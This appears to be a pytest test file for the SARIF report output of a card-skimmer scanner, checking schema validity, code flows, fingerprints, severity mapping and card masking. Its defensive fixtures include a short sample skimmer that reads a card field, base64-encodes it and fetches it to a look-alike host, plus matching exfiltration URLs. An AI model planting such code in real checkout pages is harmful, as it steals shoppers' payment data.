"""SARIF 2.1.0: schema-valid, rules with help, locations, code flows, fingerprints, levels.

`sample_report()` builds a small report by hand (a compromised page, a suspicious file, a page
that failed) and is shared with the JUnit, HTML and baseline tests.
"""

from __future__ import annotations

import json
import re
from dataclasses import replace
from functools import cache
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from skimscan.analyze.rules import RuleSet, load_rules
from skimscan.models import (
    Confidence,
    Finding,
    FlowStep,
    HostClass,
    Location,
    Report,
    RequestRecord,
    ScriptKind,
    ScriptReport,
    Severity,
    TargetKind,
    TargetReport,
    Verdict,
)
from skimscan.pipeline import Engine, scan_files
from skimscan.report.fingerprint import SARIF_KEY, target_fingerprints
from skimscan.report.sarif import render_sarif, sarif_dict

ROOT = Path(__file__).resolve().parents[1]
SCHEMA_PATH = Path("/work/shared/schemas/sarif-schema-2.1.0.json")
PAN = "4111111111111111"  # the Visa test number: the only kind of card number tests use
PAGE = "https://shop.example/checkout"
DROP = "paymemts.example"
UNMASKED_PAN = re.compile(r"(?<!\d)\d{13,19}(?!\d)")
# RFC 3986 URI-reference characters (after percent-encoding).
URI_REF = re.compile(r"^[A-Za-z0-9\-._~:/?#\[\]@!$&'()*+,;=%]+$")

SKIMMER_CODE = "\n".join([
    "// checkout helpers",
    *[f"var pad{i} = {i};" for i in range(2, 10)],
    "var n = document.querySelector('#cc_number').value;",  # line 10
    "var d = btoa(n);",  # line 11
    "    fetch('https://paymemts.example/c?n=' + d);",  # line 12
    "",
])


def sample_report(*, shift: int = 0, buster: str = "1700000000", swap_ids: bool = False,
                  message: str | None = None, started: str = "2026-01-01T00:00:00Z") -> Report:
    """A compromised page, a suspicious file and a page that failed to load."""
    app, inline = ("s2", "s1") if swap_ids else ("s1", "s2")
    scripts = (
        ScriptReport(app, f"https://shop.example/static/js/app.js?v={buster}",
                     ScriptKind.EXTERNAL, PAGE, "a" * 64, 1200, HostClass.FIRST_PARTY,
                     Verdict.MALICIOUS, initiator=(PAGE,)),
        ScriptReport(inline, PAGE, ScriptKind.INLINE, PAGE, "b" * 64, 300,
                     HostClass.FIRST_PARTY, Verdict.CLEAN, initiator=(PAGE,)),
        ScriptReport("s3", "https://js.stripe.com/v3/", ScriptKind.EXTERNAL, PAGE, "c" * 64,
                     9000, HostClass.PROCESSOR, Verdict.CLEAN, initiator=(PAGE,),
                     authorization="approved", justification="Stripe Elements"),
    )
    flow = (FlowStep(Location(10 + shift, 8), "card field '#cc_number'"),
            FlowStep(Location(11 + shift, 8), "encoded with btoa"),
            FlowStep(Location(12 + shift, 4), "sent by fetch"))
    findings = (
        Finding("card-data-to-lookalike-host", "Card data sent to a look-alike domain",
                Severity.CRITICAL, Confidence.HIGH,
                message or f"card data reaches fetch to look-alike host {DROP} (card {PAN})",
                script=app, location=Location(12 + shift, 4),
                evidence={"host": DROP, "host_class": "look-alike", "sink": "fetch",
                          "labels": ["card"], "encoded": ["base64"], "field": "#cc_number",
                          "url": f"https://{DROP}/c?n={PAN}", "lookalike_of": "payments.com"},
                tags=("exfiltration", "pci-dss:6.4.3"), flow=flow),
        Finding("runtime-data-to-lookalike-host",
                "The page sent data to a look-alike or known-bad host", Severity.HIGH,
                Confidence.HIGH, f"POST fetch to {DROP} (look-alike) carried data",
                evidence={"host": DROP, "host_class": "look-alike",
                          "url": f"https://{DROP}/c?n={PAN}&cb={buster}"},
                tags=("runtime", "exfiltration", "pci-dss:11.6.1")),
        Finding("form-field-sweep", "Script collects every form field", Severity.INFO,
                Confidence.HIGH, "collects every field via elements", script=inline,
                location=Location(40 + shift, 0), evidence={"via": "elements"}),
        Finding("card-field-read", "Script reads card fields", Severity.INFO, Confidence.HIGH,
                "reads #cardNumber", script="s3", location=Location(1, 100),
                evidence={"field": "#cardNumber", "via": "querySelector"},
                suppressed="the processor's own field"),
    )
    requests = (
        RequestRecord(PAGE, "GET", "shop.example", "document", status=200,
                      host_class=HostClass.FIRST_PARTY),
        RequestRecord(f"https://{DROP}/c?n={PAN}", "POST", DROP, "fetch", script=app,
                      carries_canary=True, quarantined=True, host_class=HostClass.LOOKALIKE),
    )
    page = TargetReport(PAGE, TargetKind.PAGE, Verdict.MALICIOUS, scripts=scripts,
                        requests=requests, findings=findings,
                        headers={"content-security-policy": "script-src 'self'"},
                        page={"card_fields": ["#cc_number (autocomplete=cc-number)"],
                              "forms": ["/pay"], "iframes": [], "csp_meta": []})
    file_script = ScriptReport("s1", "build/js/checkout.js", ScriptKind.FILE, None, "d" * 64,
                               700, HostClass.FIRST_PARTY, Verdict.SUSPICIOUS)
    file_target = TargetReport(
        "build/js/checkout.js", TargetKind.FILE, Verdict.SUSPICIOUS, scripts=(file_script,),
        findings=(Finding("form-sweep-with-untrusted-send",
                          "Script collects every form field and talks to an untrusted host",
                          Severity.MEDIUM, Confidence.MEDIUM,
                          "collects all fields and sends to cdn.widgets.example (unknown)",
                          script="s1", location=Location(3 + shift, 2),
                          evidence={"host": "cdn.widgets.example", "host_class": "unknown",
                                    "sink": "xhr", "via": "elements"}),),
        notes=("line 2: external script https://cdn.example/x.js not fetched",))
    broken = TargetReport("https://shop.example/broken", TargetKind.PAGE, Verdict.ERROR,
                          error="navigation timed out after 30 s")
    return Report((page, file_target, broken), "0.1.0", started, "2026-01-01T00:00:05Z")


@cache
def sarif_schema() -> dict[str, Any]:
    data: dict[str, Any] = json.loads(SCHEMA_PATH.read_text())
    return data


def validate_sarif(log: dict[str, Any]) -> None:
    """The official schema, plus what it cannot check: every URI is a URI reference."""
    jsonschema.Draft4Validator(sarif_schema()).validate(log)

    def uris(node: Any) -> list[str]:
        if isinstance(node, dict):
            found = [node["uri"]] if isinstance(node.get("uri"), str) else []
            return found + [u for v in node.values() for u in uris(v)]
        if isinstance(node, list):
            return [u for v in node for u in uris(v)]
        return []

    bad = [u for u in uris(log) if not URI_REF.match(u)]
    assert not bad, bad


@pytest.fixture(scope="module")
def rules() -> RuleSet:
    return load_rules()


@pytest.fixture(scope="module")
def log(rules: RuleSet) -> dict[str, Any]:
    data: dict[str, Any] = json.loads(render_sarif(sample_report(), rules))
    return data


def results_of(log: dict[str, Any], rule: str) -> list[dict[str, Any]]:
    return [r for r in log["runs"][0]["results"] if r["ruleId"] == rule]


def test_sample_report_validates_against_the_official_schema(log: dict[str, Any]) -> None:
    validate_sarif(log)
    assert log["version"] == "2.1.0"
    assert len(log["runs"]) == 1


def test_scan_of_fixture_files_validates(rules: RuleSet, engine: Engine) -> None:
    report = scan_files([ROOT / "fixtures" / "html", ROOT / "fixtures" / "scripts" / "malicious"],
                        engine=engine)
    log = sarif_dict(report, rules, root=str(ROOT))
    validate_sarif(log)
    results = log["runs"][0]["results"]
    assert len(results) == sum(len(t.findings) for t in report.targets) > 20
    uris = {r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] for r in results}
    # paths under the root are repository-relative, as GitHub code scanning needs
    assert all(u.startswith("fixtures/") for u in uris), sorted(uris)[:5]
    assert not any("#document-scripts" in u for u in uris)


def test_rules_carry_help_links_and_security_severity(log: dict[str, Any],
                                                      rules: RuleSet) -> None:
    descriptors = {r["id"]: r for r in log["runs"][0]["tool"]["driver"]["rules"]}
    assert set(rules.by_id) <= set(descriptors)
    lookalike = descriptors["card-data-to-lookalike-host"]
    assert lookalike["shortDescription"]["text"] == "Card data sent to a look-alike domain"
    assert "baways.com" in lookalike["help"]["text"]
    assert "[T1583.001](https://attack.mitre.org/techniques/T1583/001/)" in \
        lookalike["help"]["markdown"]
    assert lookalike["helpUri"].startswith("https://")
    assert lookalike["properties"]["security-severity"] == "9.5"
    assert lookalike["properties"]["precision"] == "high"
    assert "security" in lookalike["properties"]["tags"]
    assert lookalike["defaultConfiguration"]["level"] == "error"
    # a rule id only the pipeline emits still gets a descriptor, and results index into the list
    assert descriptors["runtime-data-to-lookalike-host"]["properties"]["security-severity"] == \
        "8.0"
    ordered = log["runs"][0]["tool"]["driver"]["rules"]
    for result in log["runs"][0]["results"]:
        assert ordered[result["ruleIndex"]]["id"] == result["ruleId"]


@pytest.mark.parametrize(("severity", "level", "score"), [
    (Severity.CRITICAL, "error", "9.5"), (Severity.HIGH, "error", "8.0"),
    (Severity.MEDIUM, "warning", "5.5"), (Severity.LOW, "note", "3.0"),
    (Severity.INFO, "note", "1.0"),
])
def test_severity_maps_to_level_and_security_severity(severity: Severity, level: str,
                                                      score: str) -> None:
    report = sample_report()
    page = report.targets[0]
    changed = replace(page, findings=(replace(page.findings[0], severity=severity),))
    log = sarif_dict(replace(report, targets=(changed,)))
    [result] = log["runs"][0]["results"]
    assert result["level"] == level
    [rule] = log["runs"][0]["tool"]["driver"]["rules"]  # synthesised from the finding
    assert rule["properties"]["security-severity"] == score


def test_location_is_the_script_url_with_one_based_columns(log: dict[str, Any]) -> None:
    [result] = results_of(log, "card-data-to-lookalike-host")
    physical = result["locations"][0]["physicalLocation"]
    assert physical["artifactLocation"]["uri"] == \
        "https://shop.example/static/js/app.js?v=1700000000"
    assert physical["region"] == {"startLine": 12, "startColumn": 5}
    assert result["relatedLocations"][0]["physicalLocation"]["artifactLocation"]["uri"] == PAGE
    assert result["properties"]["confidence"] == "high"


def test_findings_without_a_script_point_at_the_target(log: dict[str, Any]) -> None:
    [runtime] = results_of(log, "runtime-data-to-lookalike-host")
    physical = runtime["locations"][0]["physicalLocation"]
    assert physical == {"artifactLocation": {"uri": PAGE}}
    [inline] = results_of(log, "form-field-sweep")  # inline code: the page, document lines
    assert inline["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == PAGE
    [file_result] = results_of(log, "form-sweep-with-untrusted-send")
    assert file_result["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == \
        "build/js/checkout.js"


def test_taint_path_becomes_a_code_flow(log: dict[str, Any]) -> None:
    [result] = results_of(log, "card-data-to-lookalike-host")
    [flow] = result["codeFlows"]
    [thread] = flow["threadFlows"]
    steps = [(loc["location"]["message"]["text"],
              loc["location"]["physicalLocation"]["region"]["startLine"],
              loc["location"]["physicalLocation"]["region"]["startColumn"])
             for loc in thread["locations"]]
    assert steps == [("card field '#cc_number'", 10, 9), ("encoded with btoa", 11, 9),
                     ("sent by fetch", 12, 5)]
    assert [loc["executionOrder"] for loc in thread["locations"]] == [1, 2, 3]
    assert "codeFlows" not in results_of(log, "runtime-data-to-lookalike-host")[0]


def test_suppressed_findings_stay_with_their_justification(log: dict[str, Any]) -> None:
    [result] = results_of(log, "card-field-read")
    assert result["suppressions"] == [{"kind": "external", "status": "accepted",
                                       "justification": "the processor's own field"}]
    assert "suppressions" not in results_of(log, "card-data-to-lookalike-host")[0]


def test_failed_targets_make_the_invocation_unsuccessful(log: dict[str, Any]) -> None:
    [invocation] = log["runs"][0]["invocations"]
    assert invocation["executionSuccessful"] is False
    errors = [n for n in invocation["toolExecutionNotifications"] if n["level"] == "error"]
    assert len(errors) == 1 and "navigation timed out" in errors[0]["message"]["text"]
    assert invocation["startTimeUtc"] == "2026-01-01T00:00:00Z"


def test_fingerprints_survive_line_shifts_cache_busters_and_script_order(
        rules: RuleSet) -> None:
    def prints(report: Report) -> list[tuple[str, str]]:
        log = sarif_dict(report, rules)
        return [(r["ruleId"], r["partialFingerprints"][SARIF_KEY])
                for r in log["runs"][0]["results"]]

    base = prints(sample_report())
    assert prints(sample_report(shift=7, buster="1800000000", swap_ids=True)) == base
    assert len({fp for _, fp in base}) == len(base)  # every result its own identity
    assert prints(sample_report(message="other words, same finding")) == base
    # what the finding is about (here: its destination) does change it
    report = sample_report()
    page = report.targets[0]
    moved = replace(page.findings[0], evidence={**page.findings[0].evidence, "host": "x.example"})
    other = replace(report, targets=(replace(page, findings=(moved, *page.findings[1:])),
                                     *report.targets[1:]))
    assert prints(other)[0][1] != base[0][1]
    assert base[0][1] == target_fingerprints(page)[0]


def test_output_is_deterministic_apart_from_timestamps(rules: RuleSet) -> None:
    first = render_sarif(sample_report(), rules)
    assert render_sarif(sample_report(), rules) == first
    later = render_sarif(sample_report(started="2027-05-05T10:00:00Z"), rules)
    differing = [(a, b) for a, b in zip(first.splitlines(), later.splitlines(), strict=True)
                 if a != b]
    assert len(differing) == 1 and "startTimeUtc" in differing[0][0]


def test_card_numbers_are_masked_everywhere(log: dict[str, Any]) -> None:
    text = json.dumps(log)
    assert PAN not in text
    assert not UNMASKED_PAN.search(text)
    assert "411111******1111" in text  # masked, not removed: the evidence stays readable
